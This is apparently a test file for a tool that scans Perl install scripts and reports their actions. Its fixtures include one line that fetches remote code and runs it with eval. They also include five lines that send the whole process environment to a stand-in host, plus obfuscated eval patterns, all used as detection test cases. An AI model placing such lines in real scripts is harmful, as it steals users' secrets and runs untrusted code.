import fc from "fast-check"
import { beforeAll, describe, expect, it } from "vitest"
import { readPackaged } from "../../io/packaged.ts"
import type { Analyser } from "../language.ts"
import { type Shown, shownBy } from "../shown-fixture.ts"
import { perl } from "./index.ts"

let analyser: Analyser
beforeAll(async () => {
  analyser = await perl.load(readPackaged)
})
const show = (text: string): Shown => shownBy(analyser, text, { path: "dist/Makefile.PL", files: [] })
const acts = (text: string): readonly string[] => show(text).acts

describe("perl", () => {
  it.each([
    ["Makefile.PL", ""],
    ["lib/A.pm", ""],
    ["t/a.t", ""],
    ["bin/tool", "#!/usr/bin/perl -w"],
  ])("claims %s", (path, firstLine) => expect(perl.claims(path, firstLine)).toBe(true))

  it("does not claim what is another language's", () => expect(perl.claims("bin/tool", "#!/bin/sh")).toBe(false))

  it.each([
    ["system('touch ' . 'MARKER');", ['1 runs text shell "touch MARKER"']],
    ["system 'cp', 'a', 'b' or die;", ['1 runs program "cp" with "a", "b"']],
    ['my $x = "id"; `$x -u`; qx{uname};', ['1 runs text shell "id -u"', '1 runs text shell "uname"']],
    ['exec $^X, "-e", "1";', ['1 runs program "perl" with "-e", "1"', '1 runs text perl "1"']],
    ['open(my $fh, "-|", "tar", "x");', ['1 runs program "tar" with "x"']],
    ['open(FH, "ls |");', ['1 runs text shell "ls"']],
    ['open(OUT, ">x"); print OUT "y\\n";', ['1 writes "x" ""', '1 writes "x" "y\\n"']],
    ['open my $o, ">", "x" or die; print {$o} "y"; print $o "z";', ['1 writes "x" ""', '1 writes "x" "y"', '1 writes "x" "z"']],
    [
      "do './x.pl'; require 'y.pl'; require A::B; use C::D; use strict;",
      ['1 runs text perl file<"./x.pl">', '1 runs text perl file<"y.pl">', '1 runs module "A::B"', '1 runs module "C::D"'],
    ],
    ["sub f { my ($c, %o) = @_; system($c) }\nf('id');", ['1 runs text shell "id"']],
    ["sub f { my $c = shift; system($c) }\nf('id');", ['1 runs text shell "id"']],
    [
      "my %h = (a => 'id'); system($h{a}); my $r = { b => ['ls'] }; system($r->{b}[0]);",
      ['1 runs text shell "id"', '1 runs text shell "ls"'],
    ],
    ["foreach my $f (glob('*.x')) { unlink $f }", ['1 deletes names<"*.x">']],
    [`my $x = "i"; system("\${\\ lc($x)}d"); system("@{[ join '', 'l', 's' ]}");`, ['1 runs text shell "id"', '1 runs text shell "ls"']],
    ["unlink 'x' if $ENV{CI};", ['1 deletes "x"']],
    [
      "if (defined $a and not ref $b or $c) { system('id') } elsif (!$d) { } else { exec 'x' }",
      ['1 runs text shell "id"', '1 runs text shell "x"'],
    ],
    ["sub f { return (split ' ', $_[0])[1]; }\nsystem('id'); my $n = $#{$v}; my $p = $$; my $q = $$h{a};", ['2 runs text shell "id"']],
    ["BEGIN { system('id') }", ['1 runs text shell "id"']],
    ["my $t = <<\"A\" . 'c';\nid \nA\nsystem($t);", ['4 runs text shell "id \\nc"']],
    ["$x = $y / 2; system('id'); $z = $w / 3;", ['1 runs text shell "id"']],
    ["system('id') if $x =~ m{a/b} && $y =~ /'/;", ['1 runs text shell "id"']],
    ["=pod\n\nsystem('no');\n\n=cut\nsystem('id');", ['6 runs text shell "id"']],
    ["CORE::system('id'); &main::f; POSIX::system('ls');", ['1 runs text shell "id"', '1 runs text shell "ls"']],
  ])("acts: %s", (text, expected) => expect(acts(text)).toEqual(expected))

  it.each([
    ["use MIME::Base64;\neval decode_base64('MTs=');", '2 runs text perl decode:decode_base64("MTs=")'],
    ["eval MIME::Base64::decode_base64('MTs=');", '1 runs text perl decode:decode_base64("MTs=")'],
    ["eval pack('H*', '313b');", '1 runs text perl decode:pack("313b")'],
    ["eval pack('C*', 49, 43, 49, 59);", '1 runs text perl decode:pack("1+1;")'],
    ["eval unpack('u', '\",3L ');", '1 runs text perl decode:unpack("\\",3L ")'],
    ["eval join('', map { chr($_ ^ 1) } (48, 42, 48, 58));", '1 runs text perl decode:join("1+1;")'],
    ["eval reverse ';1';", '1 runs text perl slice:reverse(";1")'],
    ["(my $x = 'b') =~ tr/a-y/b-z/; eval $x;", '1 runs text perl translate:(tr)("b")'],
    ["my $x = '1X;'; $x =~ s/X//g; eval $x;", '1 runs text perl edit:(s)("1X;")'],
    ["$x = '1'; $x .= ';'; eval $x;", '1 runs text perl "1;"'],
    ['eval "\\x31\\073";', '1 runs text perl "1;"'],
    ["eval sprintf('%s;', 1);", '1 runs text perl "1;"'],
  ])("constants that are run: %s", (text, expected) => expect(acts(text).filter((act) => !act.includes(" module "))).toEqual([expected]))

  it("follows content of files, of its own end and of the network to where it runs", () => {
    const text = 'open(F, "<", "t/a.bin"); my $d = do { local $/; <F> }; $d =~ tr/a-z/b-za/; eval $d;'
    expect(acts(text)).toEqual(['1 reads "t/a.bin"', '1 runs text perl translate:(tr)(file<"t/a.bin">)'])
    expect(acts("eval <DATA>;\n__DATA__\nunlink 'MARKER';\n")).toEqual(["1 runs text perl \"unlink 'MARKER';\\n\"", '1 deletes "MARKER"'])
    const url = "https://x.example.org/a"
    expect(acts(`my $ua = LWP::UserAgent->new; eval $ua->get('${url}')->content;`)).toEqual([
      `1 connects "${url}"`,
      `1 runs text perl fetched<"${url}">`,
    ])
  })

  it("runs the right side of a substitution where it says so", () => {
    expect(acts("$x =~ s/(.)/system('id')/e;")).toEqual(['1 runs text shell "id"'])
    expect(acts("$x =~ s/(.)/system('id')/;")).toEqual([])
  })

  it("says what it does not understand, and goes on", () => {
    const { acts: found, blind } = show("my $x = 1 ) ];\nsystem('id');\n")
    expect(blind.some((line) => line.startsWith("1 "))).toBe(true)
    expect(found).toEqual(['2 runs text shell "id"'])
    expect(show("system('id'); my $y = q{ never ends").blind).toContain("1 a quote that does not end")
  })

  it("never throws, and stays in the text", () => {
    const word = fc.constantFrom(
      "system(",
      "'a'",
      "\n",
      "sub f {",
      "}",
      "my $x =",
      "$x",
      "@y",
      "%z",
      "(",
      ")",
      "[",
      "]",
      "{",
      "<<E",
      "E",
      '"$a[0]"',
      "`",
      "eval",
      "=~",
      "s/a/b/e",
      "tr/a/b/",
      ".",
      "if",
      "foreach",
      "=>",
      "->",
      "q{",
      "<$f>",
      "print",
      "map {",
      "?",
      ":",
      "\u00e9",
      "\0",
      "&",
      "/",
      ";",
    )
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: "binary-ascii" }),
          fc.array(word).map((words) => words.join(" ")),
        ),
        (text) => {
          const lines = text.split("\n").length
          for (const {
            lines: [first, last],
          } of show(text).places)
            expect(first >= 1 && first <= last && last <= lines).toBe(true)
        },
      ),
      { numRuns: 1000 },
    )
    for (const text of [
      "(".repeat(30_000),
      "{".repeat(30_000),
      `${"f(".repeat(5000)}1${")".repeat(5000)}`,
      `$x = ${"'a' . ".repeat(20_000)}'b';`,
      "!".repeat(30_000),
      "f ".repeat(30_000),
    ])
      expect(() => show(text)).not.toThrow()
  })

  it("sees the same whatever comments stand between", () => {
    const program = ["my $x = 'id';", "sub f {", "  my $c = shift;", "  system($c);", "}", "f($x);"]
    fc.assert(
      fc.property(fc.array(fc.stringMatching(/^[ -~]*$/), { minLength: 6, maxLength: 6 }), (comments) => {
        expect(acts(program.map((line, index) => `${line} # ${comments[index]}`).join("\n"))).toEqual(acts(program.join("\n")))
      }),
    )
  })

  const what = 'join "\\n", map { "$_=$ENV{$_}" } keys %ENV'
  it.each([
    `LWP::UserAgent->new->post("h.example.org", Content => ${what});`,
    `my $r = HTTP::Request->new(POST => "h.example.org"); $r->content(${what}); LWP::UserAgent->new->request($r);`,
    `my $s = IO::Socket::INET->new(PeerAddr => "h.example.org", PeerPort => 80); print $s ${what};`,
    `my $s = IO::Socket::INET->new(PeerAddr => "h.example.org", PeerPort => 80); $s->print(${what});`,
    `HTTP::Tiny->new->post("h.example.org", { content => ${what} });`,
  ])("knows what it sends: %s", (text) =>
    expect(acts(text).filter((act) => act.includes(" sends "))).toEqual([expect.stringMatching(/connects "h\.example\.org" sends .*\$\*/)]),
  )
})
